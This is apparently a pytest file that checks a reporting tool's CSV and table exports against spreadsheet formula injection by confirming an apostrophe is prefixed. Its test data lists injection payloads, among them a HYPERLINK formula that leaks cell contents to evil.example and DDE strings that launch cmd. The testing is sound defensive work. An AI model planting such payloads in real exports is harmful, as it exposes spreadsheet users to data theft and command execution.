"""A cell that a spreadsheet would run is none: in the tables of exports, and in those that answer questions."""

from __future__ import annotations

import csv
import io

import pytest

from reportedly.export.lines import table_lines
from reportedly.terminal.formats import csv_lines, csv_text

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "=\0cmd", "-", "=", "\r\n=1",
]  # fmt: skip
PLAIN = ["a=1", " =1", "'=1", "", "1-2", "“=1”", "·=1"]


def read(lines: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(lines), delimiter=delimiter))


@pytest.mark.parametrize("words", FORMULAS)
def test_what_a_spreadsheet_would_run_has_an_apostrophe_before_it(words: str) -> None:
    rows = [{"text": words, "more": f"a\n{words}"}]
    tables = [
        read("".join(table_lines(["text", "more"], rows))),
        read("".join(table_lines(["text", "more"], rows, "\t")), "\t"),
        read("".join(csv_lines(rows, ["text", "more"]))),
        read(csv_text(rows)),
    ]
    for table in tables:
        assert len(table) == 2
        assert table[1][0].startswith("'")
        assert table[1][1].startswith("a")


@pytest.mark.parametrize("words", PLAIN)
def test_what_it_would_not_run_is_as_it_was(words: str) -> None:
    assert read("".join(table_lines(["text"], [{"text": words}])) + "\n")[1] in ([words], [])
    assert read("".join(csv_lines([{"text": words}], ["text"])) + "\n")[1] in ([words], [])


def test_a_number_is_a_number() -> None:
    row = {"a": -2.5, "b": -3, "c": True, "d": None}
    assert read("".join(table_lines(list(row), [row])))[1] == ["-2.5", "-3", "true", ""]
    assert read("".join(csv_lines([row], list(row))))[1] == ["-2.5", "-3", "true", ""]
